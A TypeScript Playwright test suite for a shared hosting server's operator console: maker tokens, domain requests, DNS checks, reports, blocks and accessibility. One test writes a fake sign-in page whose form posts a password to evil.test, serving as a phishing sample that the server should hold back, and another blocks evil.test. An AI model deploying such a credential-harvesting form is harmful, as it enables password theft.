/** The pages of a server that others share on: its makers, and requests as operator and maker see them. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import axe from 'axe-core'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { launchChromium, phone } from '../../test/helpers/chromium.ts'
import { shareFolder } from '../../test/helpers/outer.ts'
import { type Dns, openDns } from '../../test/peers/dns.ts'
import { openSmtp, type Smtp } from '../../test/peers/smtp.ts'
import { type Client, openClient } from '../client/client.ts'
import { openStage, type Stage, signIn } from './harness.ts'

let browser: Browser
let dns: Dns
let smtp: Smtp
let stage: Stage
/** Another maker on the same server. */
let bea: Client
let folder: string
const opened: { readonly close: () => Promise<unknown> }[] = []
beforeAll(async () => {
  ;[browser, dns, smtp] = await Promise.all([
    launchChromium(),
    openDns({ 'app.test': { SOA: ['ns1.registrar.test admin.test 1'], NS: ['dana.ns.cloudflare.com'] } }),
    openSmtp(),
  ])
  stage = await openStage({
    apex: 'share.localhost',
    operator: 'Olga <ops@share.test>',
    smtpUrl: smtp.url,
    resolvers: dns.address,
    address: '203.0.113.7',
  })
  opened.push(browser, dns, smtp, stage)
  const { token } = await stage.client.call('addMaker', {
    body: { name: 'Bea', contact: 'bea@mail.test' },
  })
  bea = openClient({ url: stage.local, token })
  folder = await mkdtemp(join(tmpdir(), 'outer-recipes-'))
  opened.push({ close: () => rm(folder, { recursive: true }) })
  await writeFile(join(folder, 'index.html'), '<!doctype html><title>recipes</title><h1>recipes</h1>')
  await closeTurn(bea, 'Ana')
})
afterAll(async () => {
  for (const one of opened.reverse()) await one.close()
  expect(stage.errors).toEqual([])
})

/** Somebody outside opened it, figured it out, and said something; as its maker reports it. */
async function closeTurn(maker: Client, to: string): Promise<void> {
  const { turn = '' } = await shareFolder(maker, folder, { to, relation: 'stranger', product: 'recipes' })
  await maker.call('attest', { body: { turn, stage: 'opened' } })
  await maker.call('attest', { body: { turn, stage: 'figured-out' } })
  await maker.call('heard', { body: { words: 'where does it keep what I add?', from: to, turn } })
}

async function ask(domain: string) {
  const answer = await bea.call('publish', {
    body: { product: 'recipes', domain, call: 'https://call.test/bea' },
  })
  if ('refused' in answer) throw new Error(answer.why)
  return answer.request
}

const small = { viewport: { width: 360, height: 740 }, hasTouch: true }
const wide = { viewport: { width: 1280, height: 800 } }

async function newPage(options: BrowserContextOptions) {
  const context = await browser.newContext(options)
  onTestFinished(() => context.close())
  return signIn(stage, context)
}

/** Signed in as Bea. */
async function newPageOfBea(options: BrowserContextOptions): Promise<Page> {
  const context = await browser.newContext(options)
  onTestFinished(() => context.close())
  const page = await context.newPage()
  await page.goto((await bea.call('consoleLink')).url)
  await page.locator('h1').waitFor()
  return page
}

test('a maker is let in, and their token is shown once', async () => {
  const { page, complaints } = await newPage(small)
  await page.getByRole('link', { name: 'server', exact: true }).click()
  await page.getByRole('link', { name: 'makers', exact: true }).click()
  await page.getByLabel('their name').fill('Cleo')
  await page.getByLabel('how to reach them').fill('cleo@mail.test')
  await page.getByRole('button', { name: 'make their token' }).click()
  const once = page.getByRole('region', { name: 'the token of Cleo, shown this once' })
  const said = await once.locator('code').innerText()
  expect(said).toMatch(/^export OUTER_SERVER=http:\S+ OUTER_TOKEN=\S{20,}$/)
  const row = page.locator('.rows > li', { hasText: 'Cleo' })
  await row.getByText('never used').waitFor()
  const token = /OUTER_TOKEN=(\S+)/.exec(said)?.[1] ?? ''
  const cleo = openClient({ url: stage.local, token })
  expect((await cleo.call('who')).name).toBe('Cleo')
  await page.reload()
  await row.getByText('may do all').waitFor()
  expect(await page.content()).not.toContain(token)

  await row.locator('summary').click()
  await row.getByLabel('links open at one time').fill('7')
  await row.getByRole('button', { name: 'set the quota' }).click()
  await row.getByText('of 7').waitFor()
  await row.getByRole('button', { name: 'revoke' }).click()
  await cleo.call('who')
  await row.getByRole('button', { name: 'yes, revoke' }).click()
  await row.getByText('revoked').waitFor()
  await expect(cleo.call('who')).rejects.toThrow()

  await page.getByRole('link', { name: 'audit' }).click()
  await page.getByText('maker added').first().waitFor()
  expect(complaints).toEqual([])
})

describe('a request', () => {
  test('is asked, talked about, approved, and waits for records that are shown beside what is seen', async () => {
    const { id } = await ask('my.app.test')
    const { page, complaints } = await newPage(wide)
    await page.getByRole('link', { name: 'requests' }).click()
    await page.getByRole('heading', { name: 'what waits on you?' }).waitFor()
    await page.getByRole('link', { name: 'my.app.test' }).click()
    await page.getByRole('heading', { name: 'does recipes deserve my.app.test?' }).waitFor()
    await page.getByText('where does it keep what I add?').waitFor()
    expect(await page.locator('.journey-line').first().locator('[aria-current]').innerText()).toMatch(
      /^asked.*waits on you$/s,
    )
    expect(await page.getByText('maker says').count()).toBeGreaterThan(0)

    const hers = await newPageOfBea(small)
    await hers.goto(`${stage.url}requests/${id}`)
    expect(await hers.getByRole('button', { name: 'yes, approve it' }).count()).toBe(0)
    await page.getByLabel('an answer, or a question').fill('Who is it for?')
    await page.getByRole('button', { name: 'say it' }).click()
    await hers.getByText('It waits on you: the operator asked something').waitFor()
    await hers.getByLabel('an answer, or a question').fill('For people with too many recipes.')
    await hers.getByRole('button', { name: 'say it' }).click()
    await page.getByText('For people with too many recipes.').waitFor()

    const code = (await smtp.mail(({ to }) => to.includes('bea@mail.test'))).text.match(/\b\d{6}\b/)?.[0]
    await hers.getByLabel('the code that was sent to bea@mail.test').fill(code ?? '')
    await hers.getByRole('button', { name: 'it is mine' }).click()
    await hers.getByText('bea@mail.test, verified').waitFor()

    dns.set('my.app.test', 'A', ['198.51.100.1'])
    await page.getByRole('button', { name: 'yes, approve it' }).click()
    await hers.getByRole('article', { name: 'TXT _outer.my.app.test' }).waitFor()
    const address = hers.getByRole('article', { name: /^(A|CNAME) my\.app\.test$/ })
    await address.getByText('seen, and wrong').waitFor()
    expect(await address.innerText()).toContain('198.51.100.1')
    await hers.getByText('At Cloudflare (dana.ns.cloudflare.com)').waitFor()
    // Nothing is done yet: the ring stands at DNS.
    expect(await hers.locator('.journey-line').first().locator('[aria-current]').innerText()).toMatch(/^DNS/)
    await hers.getByRole('button', { name: 'withdraw it' }).click()
    await hers.getByRole('button', { name: 'yes, withdraw it' }).click()
    await hers.getByText('it was withdrawn').waitFor()
    expect(complaints).toEqual([])
  })

  test('is declined with words that its maker reads', async () => {
    const { id } = await ask('other.app.test')
    const { page } = await newPage(small)
    await page.goto(`${stage.url}requests/${id}`)
    await page.getByRole('button', { name: 'no…' }).click()
    await page.getByLabel('why not?').fill('Too early: one more turn first.')
    await page.getByRole('button', { name: 'decline it' }).click()
    await page.getByText('it was declined').waitFor()
    const hers = await newPageOfBea(wide)
    await hers.goto(`${stage.url}requests/${id}`)
    await hers.getByText('Too early: one more turn first.').first().waitFor()
    expect(await hers.locator('[data-stops]').count()).toBe(1)
  })
})

test('alone, the same page asks its maker the same question', async () => {
  const alone = await openStage({ resolvers: dns.address })
  onTestFinished(() => alone.close())
  await closeTurn(alone.client, 'Ana')
  await alone.client.call('publish', { body: { product: 'recipes', domain: 'alone.app.test' } })
  const context = await browser.newContext(small)
  onTestFinished(() => context.close())
  const { page } = await signIn(alone, context)
  const waits = page.getByRole('region', { name: 'a domain waits on you' })
  await waits.getByRole('link', { name: 'alone.app.test' }).click()
  await page.getByRole('heading', { name: 'does recipes deserve alone.app.test?' }).waitFor()
  expect(await page.getByRole('link', { name: 'server', exact: true }).count()).toBe(0)
  expect(await page.getByText('nobody has been told').count()).toBe(0)
  await page.getByRole('button', { name: 'yes, approve it' }).click()
  await page.getByRole('button', { name: 'withdraw it' }).waitFor()
  const ring = page.locator('.journey-line').first().locator('[aria-current]')
  expect(await ring.innerText()).not.toMatch(/^live/)
})

test('what looks like a trap waits for the operator, with what was seen in it', async () => {
  const trap = await mkdtemp(join(tmpdir(), 'outer-trap-'))
  onTestFinished(() => rm(trap, { recursive: true }))
  await writeFile(
    join(trap, 'index.html'),
    '<!doctype html><title>sign in</title><form action="https://evil.test/"><input type="password" name="p"></form>',
  )
  await shareFolder(bea, trap, { pulse: 'a forum', product: 'trap' })
  const { page } = await newPage(small)
  await page.goto(`${stage.url}server`)
  const held = page.getByRole('region', { name: 'held before anybody saw them' })
  await held.getByText('for a forum, of Bea').waitFor()
  expect(await held.getByRole('listitem').count()).toBeGreaterThan(1)
  await held.getByRole('button', { name: 'keep it shut…' }).click()
  await held.getByLabel('why?').fill('It sends a password elsewhere.')
  await held.getByRole('button', { name: 'keep it shut', exact: true }).click()
  await held.getByText('Nothing is held.').waitFor()
  const { held: kept } = await stage.client.call('held', { query: { all: '1' } })
  expect(kept[0]).toMatchObject({ state: 'refused', why: 'It sends a password elsewhere.' })
})

test('what a stranger reports stands there in their words, until it was looked at', async () => {
  const { link } = await shareFolder(bea, folder, { to: 'Dora', relation: 'stranger', product: 'recipes' })
  const context = await browser.newContext(phone)
  onTestFinished(() => context.close())
  const stranger = await context.newPage()
  await stranger.goto(new URL('/_outer/report', link).href)
  await stranger.getByRole('textbox').fill('It pretends to be my bank.')
  await stranger.getByRole('button').first().click()
  const { page } = await newPage(wide)
  await page.goto(`${stage.url}server`)
  const reported = page.getByRole('region', { name: 'what strangers report' })
  await reported.getByText('It pretends to be my bank.').waitFor()
  await reported.getByRole('button', { name: 'block the link…' }).click()
  await reported.getByLabel('why?').fill('It pretends to be a bank.')
  await reported.getByRole('button', { name: 'block the link', exact: true }).click()
  await reported.getByText('Nobody has reported a link.').waitFor()
  const { blocks } = await stage.client.call('blocked')
  expect(blocks).toMatchObject([{ kind: 'link', why: 'It pretends to be a bank.' }])
  await stage.client.call('unblock', { body: { what: blocks[0]?.what ?? '' } })
})

test('what is blocked says why, and can be opened again', async () => {
  const { page } = await newPage(small)
  await page.goto(`${stage.url}server/blocked`)
  await page.getByLabel('a link, a maker by name, or a domain').fill('evil.test')
  await page.getByLabel('why? Strangers').fill('It asks for passwords of a bank.')
  await page.getByRole('button', { name: 'block it' }).click()
  await page.getByText('It asks for passwords of a bank.').waitFor()
  await page.getByRole('button', { name: 'unblock' }).click()
  await page.getByRole('button', { name: 'yes, unblock' }).click()
  await page.getByText('Nothing is blocked.').waitFor()
})

describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
  test.each([
    { name: 'phone', size: small },
    { name: 'desktop', size: wide },
  ])('every page is accessible and fits: $name', async ({ name, size }) => {
    const { id } = await ask(`${name}.${colorScheme}.app.test`)
    dns.set(`${name}.${colorScheme}.app.test`, 'A', ['198.51.100.1'])
    const { page } = await newPage({ ...size, colorScheme, bypassCSP: true })
    const look = async (path: string, as: string) => {
      await page.goto(stage.url + path)
      await page.locator('h1').waitFor()
      for (const summary of await page.locator('summary').all()) await summary.click()
      const pictures = process.env.OUTER_TEST_PICTURES
      if (pictures !== undefined)
        await page.screenshot({ path: join(pictures, `${as}-${name}-${colorScheme}.png`), fullPage: true })
      await page.evaluate(axe.source)
      const { violations } = await page.evaluate(() =>
        (globalThis as unknown as typeof globalThis & { axe: typeof axe }).axe.run(),
      )
      expect(violations.map((one) => `/${path} ${one.id}: ${one.nodes[0]?.html}`)).toEqual([])
      expect(
        await page.evaluate(() => document.documentElement.scrollWidth - innerWidth),
      ).toBeLessThanOrEqual(0)
    }
    await look(`requests/${id}`, 'asked')
    await stage.client.call('approveRequest', { params: { id } })
    await look(`requests/${id}`, 'dns')
    for (const path of ['requests', 'server', 'server/makers', 'server/blocked', 'server/audit', 'live/none'])
      await look(path, path.replace('/', '-'))
  })
})
